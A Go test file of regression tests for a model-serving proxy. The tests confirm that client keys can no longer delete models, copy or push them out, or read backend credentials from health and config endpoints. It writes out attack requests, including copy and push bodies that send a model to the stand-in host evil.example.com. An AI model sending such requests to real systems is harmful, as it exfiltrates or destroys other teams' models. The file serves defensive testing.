package server

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/droverhq/drover/pkg/config"
)

// The HTTP attacks of issue 13, as they were tried with a client key
// against the make run stack, each a regression test. (The NATS ones are in
// services/aggregator/e2e/natsperm_test.go, the analytics ones in
// pkg/analytics.)

// team-a's client key deleted a model from every backend and team-b then
// got 404: now the delete is refused before any backend hears of it.
func TestAttackClientDeletesAModel(t *testing.T) {
	e := newEnv(t, 2, nil, accessKeys)
	c := callRoute(t, e.url, "DELETE /api/delete", "tiny", clientSecret)
	if c.status != 403 {
		t.Fatalf("client delete: %d %s", c.status, c.body)
	}
	for i, f := range e.fakes {
		if !slices.Contains(f.Models(), "tiny:latest") || f.Requests("/api/delete") != 0 {
			t.Fatalf("backend %d: models %v, deletes seen %d", i, f.Models(), f.Requests("/api/delete"))
		}
	}
	if c := callRoute(t, e.url, "POST /api/chat", "tiny", clientSecret); c.status != 200 {
		t.Fatalf("the model is gone for the next team: %d %s", c.status, c.body)
	}
}

// copy + push with insecure: true to an outside registry was forwarded and
// answered success: now both are refused and no backend is asked.
func TestAttackClientCopiesAndPushesOut(t *testing.T) {
	e := newEnv(t, 1, nil, accessKeys)
	copyBody := `{"source":"tiny","destination":"evil.example.com/x/tiny"}`
	c := callBody(t, e.url, "POST", "/api/copy", copyBody, clientSecret)
	if c.status != 403 {
		t.Fatalf("client copy: %d %s", c.status, c.body)
	}
	c = callBody(t, e.url, "POST", "/api/push", `{"model":"evil.example.com/x/tiny","insecure":true,"stream":false}`, clientSecret)
	if c.status != 403 {
		t.Fatalf("client push: %d %s", c.status, c.body)
	}
	f := e.fakes[0]
	if f.Requests("/api/copy") != 0 || f.Requests("/api/push") != 0 {
		t.Fatalf("a backend was asked: copy %d push %d", f.Requests("/api/copy"), f.Requests("/api/push"))
	}
}

// Unauthenticated /health printed a backend URL with its user:password and
// up to 64 KB of a backend's error body; /api/config showed the same to any
// key. Now: one word for anyone, and for admins URLs redacted and errors
// trimmed.
func TestAttackHealthLeaks(t *testing.T) {
	e := newEnv(t, 1, nil, func(c *config.Config) {
		accessKeys(c)
		u, _ := url.Parse(c.Backends[0].URL)
		u.User = url.UserPassword("gpu", "hunter2-password")
		c.Backends[0].URL = u.String()
		c.Health.FailureThreshold = 1
	})
	e.fakes[0].SetFailure(500, strings.Repeat("backend stack trace ", 4000)) // 80 KB
	callRoute(t, e.url, "POST /api/chat", "tiny", clientSecret)
	for _, secret := range []string{"", clientSecret} {
		c := callRoute(t, e.url, "GET /health", "", secret)
		if strings.Contains(string(c.body), "hunter2") || strings.Contains(string(c.body), "stack trace") || len(c.body) > 64 {
			t.Fatalf("key %q: /health says too much (%d bytes): %.200s", secret, len(c.body), c.body)
		}
	}
	if c := callRoute(t, e.url, "GET /api/config", "", clientSecret); c.status != 403 {
		t.Fatalf("client /api/config: %d", c.status)
	}
	for _, route := range []string{"GET /health", "GET /api/config"} {
		c := callRoute(t, e.url, route, "", adminSecret)
		if strings.Contains(string(c.body), "hunter2") || !strings.Contains(string(c.body), "stack trace") || len(c.body) > 4096 {
			t.Fatalf("admin %s (%d bytes): %.300s", route, len(c.body), c.body)
		}
	}
}
